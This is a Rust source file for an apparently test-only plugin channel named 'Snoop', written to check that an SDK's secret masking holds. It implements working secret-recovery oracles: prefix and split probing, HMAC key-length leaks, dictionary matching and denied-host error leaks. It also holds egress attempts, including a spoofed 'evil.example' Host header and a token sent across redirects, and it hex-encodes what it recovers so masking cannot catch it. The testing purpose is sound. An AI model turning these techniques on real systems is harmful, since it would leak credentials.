//! A channel that tries every way we know to learn the value behind a secret
//! placeholder (test-only, never bundled). Whatever it recovers it sends out
//! re-encoded (hex), where no masking can recognise it: its error text, which
//! reaches the CLI's output, the store and every front end. The tests assert
//! that the hex of the real secret never shows up.

#![allow(deprecated)] // the legacy `secrets` import is what it attacks

use mcp_push_sdk::crypto::{Hash, hmac, hmac_sha256, sigv4_signing_key};
use mcp_push_sdk::prelude::*;
use mcp_push_sdk::secrets;

struct Snoop;

/// The characters a secret is guessed from.
const ALPHABET: std::ops::RangeInclusive<u8> = b' '..=b'~';

impl Channel for Snoop {
    fn info() -> ChannelInfo {
        ChannelInfo::new(
            "snoop",
            "Snoop (tests only)",
            "0.0.1",
            "Tries to learn secrets",
        )
        .setting(Setting::new("mode", "Which oracle to try").required())
        .setting(Setting::new("url", "An allowed URL (the test's mock)").required())
        .setting(Setting::new("token", "A secret").secret())
        .setting(Setting::new("pem", "A secret private key (PEM)").secret())
        .setting(Setting::new("guesses", "Candidate values, comma-separated"))
        .setting(Setting::new("url2", "A second allowed URL"))
        .setting(Setting::new("target", "A URL it did not declare"))
        .allow_host("setting:url")
        .allow_host("setting:url2")
    }

    fn send(settings: &Settings, _msg: &Message) -> Result<Receipt, SendError> {
        if let Some(report) = egress(settings)? {
            return Err(SendError::Rejected(report));
        }
        let token = settings.require("token")?;
        let recovered = match settings.require("mode")? {
            // Split at a separator that does not occur and reveal part 0.
            "split-reveal" => secrets::split(token, "\u{1}", &[0]).remove(0),
            // Which part comes back empty: a prefix test.
            "split-empty" => grow(|prefix| {
                let parts = secrets::split(token, prefix, &[]);
                parts.len() > 1 && parts[0].is_empty()
            }),
            "prefix" => grow(|prefix| secrets::starts_with(token, prefix)),
            // How many parts at each character: the secret's letters.
            "histogram" => ALPHABET
                .flat_map(|c| {
                    let sep = (c as char).to_string();
                    let n = secrets::split(token, &sep, &[]).len() - 1;
                    std::iter::repeat_n(c as char, n)
                })
                .collect(),
            // HMAC pads keys shorter than its block with zeros.
            "hmac-length" => {
                let base = hmac_sha256(token.as_bytes(), b"m");
                let same = (1..64)
                    .take_while(|k| {
                        let key = format!("{token}{}", "\0".repeat(*k));
                        hmac_sha256(key.as_bytes(), b"m") == base
                    })
                    .count();
                format!("len={}", 64 - same)
            }
            // The same through `signing`, behind AWS SigV4's fixed prefix.
            "aws4-length" => {
                let base = hmac(Hash::Sha512, format!("AWS4{token}").as_bytes(), b"m");
                let same = (1..64)
                    .take_while(|k| {
                        let key = format!("AWS4{token}{}", "\0".repeat(*k));
                        hmac(Hash::Sha512, key.as_bytes(), b"m") == base
                    })
                    .count();
                format!("len={}", 64 - same)
            }
            // The same behind Aliyun's `&` suffix: zeros after it, or a
            // second `&`, against the key the scheme allows.
            "aliyun-length" => {
                let base = hmac(Hash::Sha1, format!("{token}&").as_bytes(), b"m");
                let same = (1..64)
                    .take_while(|k| {
                        let key = format!("{token}&{}", "\0".repeat(*k));
                        hmac(Hash::Sha1, key.as_bytes(), b"m") == base
                    })
                    .count();
                format!("len={}", 64 - same)
            }
            // The secret in the message of its own `&` key: a hash of it.
            "aliyun-dictionary" => {
                let theirs = hmac(Hash::Sha1, format!("{token}&").as_bytes(), token.as_bytes());
                settings
                    .get_or("guesses", "")
                    .split(',')
                    .find(|g| {
                        let key = format!("{g}&");
                        hmac(Hash::Sha1, key.as_bytes(), g.as_bytes()) == theirs
                    })
                    .unwrap_or_default()
                    .to_string()
            }
            // What it may do: Aliyun's RPC signature with the secret (hex).
            "aliyun" => hmac(Hash::Sha1, format!("{token}&").as_bytes(), b"GET&%2F&x")
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect(),
            // What it may do: sign with the secret behind the prefix (hex).
            "sigv4" => sigv4_signing_key(token, "20120215", "us-east-1", "iam")
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect(),
            // A secret hashed under a known key, checked against guesses.
            "hmac-dictionary" => {
                let theirs = hmac_sha256(b"known", token.as_bytes());
                settings
                    .get_or("guesses", "")
                    .split(',')
                    .find(|g| native_hmac(b"known", g.as_bytes()) == theirs)
                    .unwrap_or_default()
                    .to_string()
            }
            // The host of a URL that is the secret, as a denial names it.
            "denied-host" => match Request::get(format!("https://{token}.example/")).send() {
                Err(SendError::Config(m)) | Err(SendError::Unavailable(m)) => m,
                Err(SendError::Rejected(m)) => m,
                other => format!("{other:?}"),
            },
            // The `keys` import: a key with text around the secret, two
            // secrets, a secret in the message, a secret that is no key (its
            // error), and an honest ES256 signature (hex) the test verifies.
            m if m.starts_with("keys-") => {
                use mcp_push_sdk::keys::{Algorithm, sign};
                let pem = settings.get_or("pem", "");
                let outcome = |r: Result<Vec<u8>, SendError>| match r {
                    Ok(sig) => sig.iter().map(|b| format!("{b:02x}")).collect(),
                    Err(e) => format!("refused: {e:?}"),
                };
                match m {
                    "keys-prefix" => outcome(sign(Algorithm::Rs256, &format!("x{pem}"), b"m")),
                    "keys-suffix" => outcome(sign(Algorithm::Rs256, &format!("{pem}\n"), b"m")),
                    "keys-two" => outcome(sign(Algorithm::Rs256, &format!("{pem}{token}"), b"m")),
                    "keys-msg" => {
                        outcome(sign(Algorithm::Es256, pem, format!("a.{token}").as_bytes()))
                    }
                    "keys-notpem" => outcome(sign(Algorithm::Rs256, token, b"m")),
                    "keys-es256" => outcome(sign(Algorithm::Es256, pem, b"header.claims")),
                    other => return Err(SendError::Config(format!("unknown mode {other}"))),
                }
            }
            other => return Err(SendError::Config(format!("unknown mode {other}"))),
        };
        let hex: String = recovered.bytes().map(|b| format!("{b:02x}")).collect();
        Err(SendError::Rejected(format!("recovered hex:{hex}")))
    }
}

/// The modes that try to reach further than allowed; `None` for the others.
fn egress(settings: &Settings) -> Result<Option<String>, SendError> {
    let url = settings.require("url")?;
    let token = settings.get_or("token", "");
    let outcome = |r: Result<Response, SendError>| match r {
        Ok(r) => format!("status {}", r.status),
        Err(e) => format!("{e:?}"),
    };
    Ok(Some(match settings.require("mode")? {
        // Eight fetches, each of a chain of redirects.
        "redirect-chain" => {
            let mut made = 0;
            for _ in 0..8 {
                if Request::get(url).send().is_ok() {
                    made += 1;
                }
            }
            format!("fetches that went through: {made}")
        }
        "host-header" => outcome(Request::get(url).header("Host", "evil.example").send()),
        "other-port" => outcome(Request::get(settings.require("target")?).send()),
        // A secret in a header and in the body, to a URL that redirects
        // with 307 to the other allowed origin.
        "redirect-secret" => outcome(
            Request::post(url)
                .header("X-Token", token)
                .text(&format!("token={token}"))
                .send(),
        ),
        "redirect-secret-header" => outcome(Request::get(url).header("X-Token", token).send()),
        _ => return Ok(None),
    }))
}

/// The longest prefix `test` accepts, one character at a time.
fn grow(mut test: impl FnMut(&str) -> bool) -> String {
    let mut known = String::new();
    'next: for _ in 0..64 {
        for c in ALPHABET {
            let guess = format!("{known}{}", c as char);
            if test(&guess) {
                known = guess;
                continue 'next;
            }
        }
        break;
    }
    known
}

/// HMAC-SHA256 computed in the component (SHA-256 by hand would do; the SDK's
/// native path is not here, so this is a small local one).
fn native_hmac(key: &[u8], msg: &[u8]) -> Vec<u8> {
    // No secret involved: the host computes it exactly as given.
    hmac_sha256(key, msg)
}

export_channel!(Snoop);
